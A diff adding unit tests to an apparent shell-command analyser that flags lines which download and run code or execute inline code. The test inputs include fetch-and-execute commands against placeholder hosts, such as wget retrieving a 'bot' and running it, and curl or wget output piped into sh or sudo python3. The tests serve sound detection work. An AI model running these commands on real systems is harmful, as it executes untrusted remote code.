@@ -117,6 +117,20 @@ TEST(CommandLine, FindsHosts) {
                 ElementsAre());
 }
 
+TEST(CommandLine, FollowsADownloadThroughArchivesCopiesAndJoinedScripts) {
+    EXPECT_TRUE(any_has("wget http://h.example/a.tgz; tar xzf a.tgz; cd a; ./run", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("wget http://h.example/bot; cat bot > .x; ./.x", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("#!/bin/sh; wget http://h.example/b; sh b", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("wget http://h.example/a.tgz; tar xzf a.tgz; ls", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("wget http://h.example/a.tgz; tar xzf b.tgz; ./run", Fact::RunsDownload));
+}
+
+TEST(CommandLine, KnowsCodeGluedToItsOption) {
+    EXPECT_TRUE(any_has("ruby -rsocket -e'puts(1)'", Fact::RunsCode));
+    EXPECT_TRUE(any_has("php -r'echo 1;'", Fact::RunsCode));
+    EXPECT_FALSE(any_has("perl -w script.pl", Fact::RunsCode));
+}
+
 TEST(CommandLine, KnowsWhatALineDownloadsAndRuns) {
     for (const std::string_view line :
          {"curl -s http://x.example/a | sh", "wget -qO- http://x.example/a | sudo python3 -",
